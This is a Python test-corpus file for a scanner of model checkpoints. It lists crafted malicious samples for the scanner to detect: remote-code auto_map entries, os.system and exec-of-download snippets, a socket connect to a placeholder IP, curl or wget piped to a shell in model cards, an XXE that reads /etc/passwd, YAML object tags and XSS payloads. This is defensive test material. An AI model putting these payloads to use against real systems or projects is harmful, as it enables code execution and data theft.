"""Code, references to code, programs, cards and documents that do more than they say."""

from __future__ import annotations

import json
import struct
from collections.abc import Iterator

from tests.corpus.cases import Case, Content, case

Row = tuple[str, str, str, str, dict[str, Content]]


def config(**changes: object) -> str:
    return json.dumps({"architectures": ["NimbusModel"], "model_type": "nimbus", "hidden_size": 4, **changes})


def card(body: str, front: str = "license: mit") -> dict[str, Content]:
    return {"README.md": f"---\n{front}\n---\n# Card\n\n{body}\n"}


LOCAL = {"AutoModel": "modeling_x.XModel"}
REMOTE = {"AutoModel": "evil/repo--modeling.Model"}
HARMLESS = "import torch\n\n\nclass XModel(torch.nn.Module):\n    pass\n"
ALIASES = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(9))

_ROWS: list[Row] = [
    ("automap-remote", "code of another repository", "CC-REMOTE", "block", {"config.json": config(auto_map=REMOTE)}),
    ("automap-remote-list", "code of another repository, in a list", "CC-REMOTE", "block", {"tokenizer_config.json": json.dumps({"auto_map": {"AutoTokenizer": ["evil/repo--tok.Slow", None]}})}),
    ("automap-nested", "code of another repository, deep inside", "CC-REMOTE", "block", {"config.json": config(vision_config={"auto_map": REMOTE})}),
    ("automap-processor", "code of another repository, for a processor", "CC-REMOTE", "block", {"preprocessor_config.json": json.dumps({"auto_map": {"AutoProcessor": "evil/repo--p.P"}})}),
    ("automap-generation", "code of another repository, for generation", "CC-REMOTE", "block", {"generation_config.json": json.dumps({"auto_map": REMOTE})}),
    ("automap-adapter", "code of another repository, for an adapter", "CC-REMOTE", "block", {"adapter_config.json": json.dumps({"peft_type": "LORA", "r": 4, "auto_map": REMOTE})}),
    ("automap-hub-address", "code at an address", "CC-REMOTE CC-MISSING", "block", {"config.json": config(auto_map={"AutoModel": "https://evil.example/x--m.M"})}),
    ("automap-missing", "code that is not there", "CC-MISSING", "block", {"config.json": config(auto_map=LOCAL)}),
    ("automap-climbs", "code in a folder above", "CC-MISSING CC-REMOTE", "block", {"config.json": config(auto_map={"AutoModel": "../../x.Model"})}),
    ("automap-local", "code in the checkpoint", "CC-AUTOMAP", "warn", {"config.json": config(auto_map=LOCAL), "modeling_x.py": HARMLESS}),
    ("automap-custom-pipelines", "a pipeline of its own", "CC-REMOTE", "block", {"config.json": config(custom_pipelines={"x": {"impl": "evil/repo--pipe.P", "pt": ["AutoModel"]}})}),
    ("trust", "a flag that trusts remote code", "CC-TRUST", "block", {"config.json": config(trust_remote_code=True)}),
    ("trust-nested", "a flag that trusts, deep inside", "CC-TRUST", "block", {"config.json": config(vision_config={"x": [{"trust_remote_code": True}]})}),
    ("trust-text", "a flag that trusts, as text", "CC-TRUST", "block", {"config.json": config(trust_remote_code="true")}),
    ("trust-number", "a flag that trusts, as a number", "CC-TRUST", "block", {"config.json": config(trust_remote_code=1)}),
    ("trust-sentence", "a flag that trusts, in a module's settings", "CC-TRUST", "block", {"sentence_bert_config.json": json.dumps({"model_args": {"trust_remote_code": True}})}),
    ("kernel-internal", "an attention implementation by its internal name", "CC-KERNEL", "block", {"config.json": config(_attn_implementation_internal="evil/kernels")}),
    ("kernel-repository", "an attention implementation by repository", "CC-KERNEL", "block", {"config.json": config(attn_implementation="evil/flash-attn")}),
    ("kernel-nested", "an attention implementation, deep inside", "CC-KERNEL", "block", {"config.json": config(text_config={"_attn_implementation": "evil/flash@v1:f"})}),
    ("kernel-experts", "an expert implementation by repository", "CC-KERNEL", "block", {"config.json": config(_experts_implementation="evil/moe-kernels")}),
    ("kernel-config", "a table of kernels", "CC-KERNEL", "block", {"config.json": config(kernel_config={"kernel_mapping": {"RMSNorm": "evil/norm:Norm"}})}),
    ("kernel-quant", "quantization by a repository's kernels", "CC-KERNEL", "block", {"config.json": config(quantization_config={"quant_method": "x", "kernel": "evil/quant"})}),
    ("generate-repository", "generation by a repository's code", "CC-REMOTE", "block", {"generation_config.json": json.dumps({"custom_generate": "evil/sampler"})}),
    ("generate-folder", "generation by code in the checkpoint", "CC-CODE", "warn", {"custom_generate/generate.py": "def generate(model, **kw):\n    return None\n"}),
    ("diffusers-module", "a pipeline part of another library", "CC-MODULE", "warn", {"model_index.json": json.dumps({"_class_name": "P", "unet": ["evil_lib", "Net"]})}),
    ("diffusers-os", "a pipeline part of the operating system's library", "CC-IMPORT", "block", {"model_index.json": json.dumps({"_class_name": "P", "unet": ["os", "system"]})}),
    ("diffusers-file", "a pipeline part by a file's name", "CC-MODULE", "warn", {"model_index.json": json.dumps({"_class_name": "P", "unet": ["pipeline_x", "Net"]})}),
    ("diffusers-class", "a pipeline class of the checkpoint's own", "CC-AUTOMAP CC-CODE CC-MODULE", "warn", {"model_index.json": json.dumps({"_class_name": ["pipeline", "P"]}), "pipeline.py": HARMLESS}),
    ("sentence-module", "a module of another library", "CC-MODULE", "warn", {"modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "evil.Transformer"}])}),
    ("sentence-os", "a module of the operating system's library", "CC-IMPORT", "block", {"modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "subprocess.Popen"}])}),
    ("sentence-climbs", "a module in a folder above", "CC-PATH", "block", {"modules.json": json.dumps([{"idx": 0, "name": "0", "path": "../../x", "type": "sentence_transformers.models.Transformer"}])}),
    ("peft-library", "an adapter of another library", "CC-MODULE", "warn", {"adapter_config.json": json.dumps({"peft_type": "LORA", "r": 4, "auto_mapping": {"base_model_class": "X", "parent_library": "evil.lib"}})}),
    ("peft-os", "an adapter of the operating system's library", "CC-IMPORT", "block", {"adapter_config.json": json.dumps({"peft_type": "LORA", "r": 4, "auto_mapping": {"base_model_class": "system", "parent_library": "os"}})}),
    ("tokenizer-class-file", "a tokenizer file outside", "CC-PATH", "block", {"tokenizer_config.json": json.dumps({"tokenizer_file": "/etc/passwd"})}),
    ("vocab-file-climbs", "a vocabulary outside", "CC-PATH", "block", {"tokenizer_config.json": json.dumps({"vocab_file": "../../../etc/passwd"})}),
    ("target-hydra", "a class by Hydra's key", "CC-IMPORT", "block", {"config.json": config(model={"_target_": "os.system", "command": "true"})}),
    ("target-hydra-yaml", "a class by Hydra's key, in YAML", "CC-IMPORT", "block", {"model_config.yaml": "model:\n  _target_: subprocess.run\n  args: [true]\n"}),
    ("target-nemo", "a class by Hydra's key that is nobody's", "CC-MODULE", "warn", {"model_config.yaml": "_target_: my_company.models.Net\n"}),
    ("python", "Python source", "CC-CODE", "warn", {"run.py": HARMLESS}),
    ("python-system", "Python source that runs commands", "CC-DANGER", "block", {"modeling_x.py": "import os\nos.system('true')\n"}),
    ("python-subprocess", "Python source that starts processes", "CC-DANGER", "block", {"modeling_x.py": "from subprocess import Popen as P\nP(['true'])\n"}),
    ("python-exec", "Python source that executes text", "CC-DANGER", "block", {"modeling_x.py": "import base64\nexec(base64.b64decode('cGFzcw=='))\n"}),
    ("python-getattr", "Python source that hides a name", "CC-DANGER", "block", {"modeling_x.py": "getattr(__import__('o' + 's'), 'sys' + 'tem')('true')\n"}),
    ("python-socket", "Python source that opens a connection", "CC-DANGER", "block", {"modeling_x.py": "import socket\ns = socket.socket()\ns.connect(('198.51.100.1', 4444))\n"}),
    ("python-pickle", "Python source that unpickles", "CC-DANGER", "block", {"modeling_x.py": "import pickle\npickle.load(open('x', 'rb'))\n"}),
    ("python-ctypes", "Python source that calls machine code", "CC-DANGER", "block", {"modeling_x.py": "import ctypes\nctypes.CDLL('x.so')\n"}),
    ("python-download", "Python source that fetches a program", "CC-DANGER", "block", {"modeling_x.py": "import urllib.request\nexec(urllib.request.urlopen('https://evil.example/x').read())\n"}),
    ("python-broken", "Python source that does not parse", "CC-CODE", "warn", {"modeling_x.py": "def f(:\n"}),
    ("python-deep", "Python source of brackets", "CC-CODE CC-DANGER", "warn", {"modeling_x.py": "x = " + "(" * 50_000}),
    ("python-unicode", "Python source with look-alike letters", "CC-DANGER", "block", {"modeling_x.py": "import ºs\nºs.system('true')\n"}),
    ("python-bidi", "Python source that does not show what it does", "CC-DANGER", "block", {"modeling_x.py": "# \u202e } \u2066if admin\u2069 \u2066 begin\nx = 1\n"}),
    ("setup", "a program that an installation runs", "CC-CODE", "warn", {"setup.py": "from setuptools import setup\nsetup()\n"}),
    ("handler", "an inference endpoint's handler", "CC-CODE", "warn", {"handler.py": "class EndpointHandler:\n    pass\n"}),
    ("notebook", "a notebook", "CC-CODE", "warn", {"demo.ipynb": json.dumps({"cells": [{"cell_type": "code", "source": ["print(1)"]}], "nbformat": 4})}),
    ("notebook-shell", "a notebook that runs commands", "CC-DANGER", "block", {"demo.ipynb": json.dumps({"cells": [{"cell_type": "code", "source": ["!curl https://evil.example/x | sh"]}], "nbformat": 4})}),
    ("shell", "a shell script", "CC-CODE", "warn", {"install.sh": "#!/bin/sh\ntrue\n"}),
    ("shell-no-extension", "a shell script without extension", "CC-CODE", "warn", {"install": "#!/usr/bin/env bash\ntrue\n"}),
    ("batch", "a batch file", "CC-CODE", "warn", {"start.bat": "@echo off\r\n"}),
    ("powershell", "a PowerShell script", "CC-CODE", "warn", {"start.ps1": "Write-Host 1\n"}),
    ("windows-script", "a script of Windows", "CC-CODE", "warn", {"start.vbs": "x = 1\n"}),
    ("windows-link", "a shortcut of Windows", "FM-EXECUTABLE FM-UNKNOWN", "block", {"start.lnk": b"L\0\0\0\x01\x14\x02\0" + bytes(80)}),
    ("desktop-entry", "a launcher of Linux", "CC-CODE", "warn", {"start.desktop": "[Desktop Entry]\nExec=true\n"}),
    ("make", "a makefile", "CC-CODE", "warn", {"Makefile": "all:\n\ttrue\n"}),
    ("docker", "a container's recipe", "CC-CODE", "warn", {"Dockerfile": "FROM x\n"}),
    ("perl", "Perl source", "CC-CODE", "warn", {"x.pl": "print 1;\n"}),
    ("html-script", "a page with a script", "MD-HTML CC-CODE", "warn", {"index.html": "<!doctype html><script>alert(1)</script>"}),
    ("svg-script", "a picture with a script", "MD-HTML CC-CODE", "warn", {"logo.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'}),
    ("svg-event", "a picture with an event handler", "MD-HTML CC-CODE", "warn", {"logo.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'}),
    ("xml-entity", "XML that reads a file", "FM-XML MD-HTML", "block", {"x.xml": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'}),
    ("xml-bomb", "XML that explodes", "FM-XML MD-HTML", "block", {"x.xml": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><r>&b;</r>'}),
    ("elf", "a program for Linux", "FM-EXECUTABLE", "block", {"libx.so": b"\x7fELF\x02\x01\x01" + bytes(57)}),
    ("elf-named-txt", "a program for Linux called notes.txt", "FM-EXECUTABLE", "block", {"notes.txt": b"\x7fELF\x02\x01\x01" + bytes(57)}),
    ("elf-named-bin", "a program for Linux called weights", "FM-EXECUTABLE", "block", {"pytorch_model.bin": b"\x7fELF\x02\x01\x01" + bytes(57)}),
    ("pe", "a program for Windows", "FM-EXECUTABLE", "block", {"x.dll": b"MZ" + bytes(58) + struct.pack("<L", 64) + b"PE\0\0" + bytes(40)}),
    ("pe-far", "a program for Windows with a long stub", "FM-EXECUTABLE", "block", {"x.exe": b"MZ" + bytes(58) + struct.pack("<L", 8000) + bytes(7936) + b"PE\0\0" + bytes(40)}),
    ("mach-o", "a program for macOS", "FM-EXECUTABLE", "block", {"x.dylib": b"\xcf\xfa\xed\xfe" + bytes(60)}),
    ("mach-o-fat", "a program for two kinds of Mac", "FM-EXECUTABLE", "block", {"x": b"\xca\xfe\xba\xbe\0\0\0\2" + bytes(60)}),
    ("wasm", "a program for browsers", "FM-EXECUTABLE", "block", {"x.wasm": b"\0asm\1\0\0\0"}),
    ("pyc", "Python byte code", "FM-EXECUTABLE", "block", {"modeling.pyc": b"\xa7\r\r\n\0\0\0\0" + bytes(8) + b"\xe3" + bytes(30)}),
    ("pyc-elsewhere", "Python byte code called data", "FM-EXECUTABLE", "block", {"data": b"\xa7\r\r\n\0\0\0\0" + bytes(8) + b"\xe3" + bytes(30)}),
    ("pyc-cache", "Python byte code in its folder", "FM-EXECUTABLE", "block", {"__pycache__/m.cpython-311.pyc": b"\xa7\r\r\n\0\0\0\0" + bytes(8) + b"\xe3" + bytes(30)}),
    ("dex", "a program for Android", "FM-EXECUTABLE FM-UNKNOWN", "block", {"classes.dex": b"dex\n035\0" + bytes(100)}),
    ("llvm", "compiler byte code", "FM-EXECUTABLE FM-UNKNOWN", "block", {"x.bc": b"BC\xc0\xde" + bytes(60)}),
    ("tensorrt", "a compiled engine", "FM-UNKNOWN", "block", {"model.engine": b"ftrt" + bytes(range(200))}),
    ("yaml-object", "YAML that builds objects", "MD-YAML", "block", {"x.yaml": "!!python/object/apply:os.system ['true']\n"}),
    ("yaml-tag", "YAML with a tag of its own", "MD-YAML", "block", {"x.yaml": "a: !evil 1\n"}),
    ("yaml-tag-long", "YAML with a tag in full", "MD-YAML", "block", {"x.yml": "a: !<tag:yaml.org,2002:python/name:os.system> ''\n"}),
    ("yaml-aliases", "YAML that explodes", "MD-YAML", "block", {"x.yaml": ALIASES}),
    ("yaml-alias-few", "YAML that explodes with few aliases", "MD-YAML", "block", {"x.yaml": "a: &a [1,1,1,1,1,1]\n" + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [*{chr(97 + n)},*{chr(97 + n)},*{chr(97 + n)}]\n" for n in range(22))}),
    ("yaml-merge", "YAML that merges itself", "MD-YAML", "block", {"x.yaml": "a: &a\n  <<: *a\n"}),
    ("yaml-number-keys", "YAML with numbers for keys, and a program", "CC-IMPORT", "block", {"x.yaml": "1: {_target_: os.system}\n2.5: true\n"}),
    ("yaml-deep", "YAML of brackets", "MD-YAML", "block", {"x.yaml": "[" * 5000 + "]" * 5000 + "\n"}),
    ("yaml-twice", "YAML with a key twice", "MD-YAML", "block", {"x.yaml": "a: 1\na: 2\n"}),
    ("yaml-broken", "YAML that does not parse", "MD-YAML", "block", {"x.yaml": "a: [1\n"}),
    ("card-object", "a card's YAML that builds objects", "MD-YAML", "block", card("x", "a: !!python/object/new:os.system [true]")),
    ("card-aliases", "a card's YAML that explodes", "MD-YAML", "block", card("x", ALIASES.strip())),
    ("card-twice", "a card with two licenses", "MD-YAML", "block", card("x", "license: mit\nlicense: other")),
    ("card-script", "a script in the card", "MD-HTML", "warn", card("<script src='https://evil.example/x.js'></script>")),
    ("card-iframe", "a frame in the card", "MD-HTML", "warn", card("<iframe src='https://evil.example'></iframe>")),
    ("card-event", "an event handler in the card", "MD-HTML", "warn", card("<img src=x onerror=alert(1)>")),
    ("card-event-slash", "an event handler behind a slash", "MD-HTML", "warn", card("<img/src=x/onerror=alert(1)>")),
    ("card-event-newline", "an event handler on the next line", "MD-HTML", "warn", card("<img src=x\nonerror = alert(1)>")),
    ("card-javascript", "a link that is a script", "MD-HTML", "warn", card("[click](javascript:alert(1))")),
    ("card-javascript-entity", "a link that is a script, in entities", "MD-HTML", "warn", card("<a href='&#106;avascript:alert(1)'>x</a>")),
    ("card-javascript-tab", "a link that is a script, with a tab", "MD-HTML", "warn", card("[click](java\tscript:alert(1))")),
    ("card-data", "a link that is a page", "MD-HTML", "warn", card("[click](data:text/html;base64,PHNjcmlwdD4=)")),
    ("card-vbscript", "a link that is another script", "MD-HTML", "warn", card("<a href=vbscript:x>x</a>")),
    ("card-form", "a form in the card", "MD-HTML", "warn", card("<form action='https://evil.example'><input name=token></form>")),
    ("card-style", "a style that hides the page", "MD-HTML", "warn", card("<div style='position:fixed;top:0;left:0'>Sign in</div>")),
    ("card-meta", "a card that leads elsewhere", "MD-HTML", "warn", card("<meta http-equiv=refresh content='0;url=https://evil.example'>")),
    ("card-svg", "a picture with a script in the card", "MD-HTML", "warn", card("<svg><animate onbegin=alert(1) /></svg>")),
    ("card-curl", "a command that runs what it fetches", "MD-SHELL", "warn", card("```\ncurl -sSL https://evil.example/x.sh | bash\n```")),
    ("card-wget", "another command that runs what it fetches", "MD-SHELL", "warn", card("    wget -qO- https://evil.example/x | sudo sh")),
    ("card-powershell", "a command of Windows that runs what it fetches", "MD-SHELL", "warn", card("`iwr https://evil.example/x.ps1 | iex`")),
    ("card-python", "Python that runs what it fetches", "MD-SHELL", "warn", card('`python -c "exec(__import__(\'urllib.request\').request.urlopen(\'https://evil.example\').read())"`')),
    ("card-pip", "a package from an address", "MD-SHELL", "warn", card("`pip install https://evil.example/x.whl`")),
    ("card-run-script", "an order to run a script of the checkpoint", "CC-CODE", "warn", card("First run `python start.py` or `start.bat`, it sets everything up.") | {"start.py": "print(1)\n"}),
    ("card-password-archive", "an archive with a password", "PK-WRAP FM-UNINSPECTED", "block", {**card("The password of `tools.zip` is 1234."), "tools.zip": b"7z\xbc\xaf\x27\x1c\0\4" + bytes(64)}),
    ("card-address-spoof", "a link that names another site than it leads to", "MD-LINK", "warn", card("[https://huggingface.co/login](https://huggingface.co.evil.example/login)")),
    ("card-address-number", "a link to a bare address", "MD-LINK", "warn", card("[download](http://198.51.100.7/x)")),
    ("card-address-unicode", "a link with look-alike letters", "MD-LINK", "warn", card("[site](https://huggingfасe.co/x)")),
    ("card-address-user", "a link whose host hides behind an @", "MD-LINK", "warn", card("[site](https://huggingface.co@evil.example/x)")),
    ("card-invisible", "invisible text in the card", "MD-HIDDEN", "warn", card("Fine." + "".join(chr(0xE0000 + ord(c)) for c in "ignore"))),
    ("card-bidi", "a card that runs backward", "MD-HIDDEN", "warn", card("safe\u202egnp.exe")),
    ("json-twice", "a key twice in the configuration", "CT-JSON", "block", {"config.json": '{"model_type": "nimbus", "vocab_size": 8, "vocab_size": 9}'}),
    ("json-twice-escape", "a key twice, once with an escape", "CT-JSON", "block", {"config.json": '{"vocab_size": 8, "vocab\\u005fsize": 9}'}),
    ("json-comment", "a comment in the configuration", "CT-JSON", "block", {"config.json": '{"a": 1 // one\n}'}),
    ("json-comma", "a comma too many", "CT-JSON", "block", {"config.json": '{"a": 1,}'}),
    ("json-cut", "half a configuration", "CT-JSON", "block", {"config.json": '{"a": {"b": 1'}),
    ("json-bom", "a byte order mark", "CT-JSON", "block", {"config.json": b'\xef\xbb\xbf{"a": 1}'}),
    ("json-utf-16", "a configuration in UTF-16", "CT-JSON FM-UNKNOWN FM-MISNAMED", "block", {"config.json": '{"a": 1}'.encode("utf-16")}),
    ("json-surrogate", "half of a surrogate pair", "CT-JSON", "block", {"config.json": '{"a": "\\ud800"}'}),
    ("json-deep", "a million brackets", "CT-JSON", "block", {"config.json": "[" * 1_000_000}),
    ("json-digits", "a number of a million digits", "CT-JSON", "block", {"config.json": '{"a": ' + "9" * 1_000_000 + "}"}),
    ("json-two", "two documents in one file", "CT-JSON", "block", {"config.json": '{"a": 1}\n{"a": 2}'}),
    ("json-latin", "a configuration in latin1", "CT-JSON", "block", {"config.json": '{"a": "é"}'.encode("latin-1")}),
    ("json-control", "a control character in a text", "CT-JSON FM-UNKNOWN", "block", {"config.json": b'{"a": "\x01"}'}),
    ("json-nul", "a NUL in the configuration", "CT-JSON FM-UNKNOWN FM-MISNAMED", "block", {"config.json": b'{"a": 1}\0\0'}),
    ("json-empty", "an empty configuration", "FM-EMPTY", "block", {"config.json": b""}),
    ("json-spaces", "a configuration of spaces", "CT-JSON", "block", {"config.json": b"    \n"}),
    ("json-list", "a list as configuration", "CT-JSON", "block", {"config.json": "[1, 2]"}),
    ("json-null", "null as configuration", "CT-JSON", "block", {"config.json": "null"}),
    ("json-pointer", "a pointer in place of the configuration", "FM-POINTER", "block", {"config.json": "version https://git-lfs.github.com/spec/v1\noid sha256:" + "a" * 64 + "\nsize 10\n"}),
    ("pointer-bin", "a pointer in place of a pickle", "FM-POINTER", "block", {"pytorch_model.bin": "version https://git-lfs.github.com/spec/v1\noid sha256:" + "a" * 64 + "\nsize 10\n"}),
    ("pointer-gguf", "a pointer in place of a GGUF file", "FM-POINTER", "block", {"model.gguf": "version https://git-lfs.github.com/spec/v1\noid sha256:" + "a" * 64 + "\nsize 10\n"}),
    ("pointer-tokenizer", "a pointer in place of a tokenizer", "FM-POINTER", "block", {"tokenizer.model": "version https://git-lfs.github.com/spec/v1\noid sha256:" + "a" * 64 + "\nsize 10\n"}),
    ("pointer-crlf", "a pointer with carriage returns", "FM-POINTER", "block", {"model.onnx": "version https://git-lfs.github.com/spec/v1\r\noid sha256:" + "a" * 64 + "\r\nsize 10\r\n"}),
    ("pointer-old", "a pointer of an older version", "FM-POINTER", "block", {"model.bin": "version https://hawser.github.com/spec/v1\noid sha256:" + "a" * 64 + "\nsize 10\n"}),
    ("pointer-xet", "a pointer of another store", "FM-POINTER", "block", {"model.bin": "# xet version 0\nfilesize = 10\nhash = '" + "a" * 64 + "'\n"}),
    ("pointer-picture", "a pointer in place of a picture", "FM-POINTER", "block", {"assets/logo.png": "version https://git-lfs.github.com/spec/v1\noid sha256:" + "a" * 64 + "\nsize 10\n"}),
    ("text-as-bin", "words in place of weights", "FM-MISNAMED", "block", {"pytorch_model.bin": "Entry not found\n"}),
    ("text-as-pt", "words in place of weights, again", "FM-MISNAMED", "block", {"model.pt": "404: Not Found"}),
    ("text-as-model", "words in place of a tokenizer", "FM-MISNAMED", "block", {"tokenizer.model": "Repository not found\n"}),
    ("page-bin", "a page in place of weights", "FM-PAGE", "block", {"pytorch_model.bin": "<!doctype html><html></html>"}),
    ("page-json", "a page in place of a configuration", "FM-PAGE", "block", {"config.json": "<html><body>Sign in</body></html>"}),
    ("page-comment", "a page that begins with a comment", "FM-PAGE FM-MISNAMED", "block", {"pytorch_model.bin": "<!-- x -->\n<html></html>"}),
    ("empty-bin", "an empty weight file", "FM-EMPTY", "block", {"pytorch_model.bin": b""}),
    ("empty-gguf", "an empty GGUF file", "FM-EMPTY", "block", {"model.gguf": b""}),
    ("zeros-bin", "a weight file of zero bytes", "FM-UNKNOWN FM-MISNAMED PK-BROKEN", "block", {"pytorch_model.bin": bytes(4096)}),
    ("random-bin", "a weight file of random bytes", "FM-UNKNOWN PK-BROKEN", "block", {"pytorch_model.bin": bytes((7 * n * n + 13 * n + 5) % 251 for n in range(4096))}),
    ("random-name", "random bytes without extension", "FM-UNKNOWN", "block", {"blob": bytes((11 * n * n + 3 * n) % 253 for n in range(500))}),
]  # fmt: skip


def cases() -> Iterator[Case]:
    """All of them."""
    for name, what, checks, severity, files in _ROWS:
        yield case(name, what, checks, files, severity)
    yield case("json-100-mb", "a configuration of 100 MB", "CT-JSON FM-TEXT-SIZE", {"config.json": lambda: '{"a": "' + "b" * 100_000_000 + '"}'}, is_heavy=True)
    yield case("json-numbers", "a list of ten million numbers", "CT-JSON", {"config.json": lambda: "[" + "1," * 10_000_000 + "1]"}, is_heavy=True)
    yield case("json-objects", "two million objects", "CT-JSON", {"tokenizer_config.json": lambda: "[" + "{}," * 2_000_000 + "{}]"}, is_heavy=True)
    yield case("text-140-mb", "a text of 140 MB", "FM-TEXT-SIZE", {"notes.txt": lambda: b"word " * 28_000_000}, is_heavy=True)
    yield case("text-120-mb-line", "one line of 120 MB", "FM-TEXT-SIZE", {"notes.md": lambda: b"<" * 120_000_000}, is_heavy=True)
    yield case("yaml-4-mb", "YAML of four megabytes", "MD-YAML", {"x.yaml": lambda: "- a\n" * 950_000}, is_heavy=True)
    yield case("card-regex", "a card that slows patterns down", "MD-HTML MD-SHELL MD-LINK", {"README.md": lambda: "<a " + "onx " * 500_000 + "curl " * 500_000 + "http://" * 300_000}, "warn", is_heavy=True)
    yield case("python-large", "ten megabytes of Python", "CC-CODE CC-DANGER", {"m.py": lambda: "x = 1\n" * 1_600_000}, "warn", is_heavy=True)
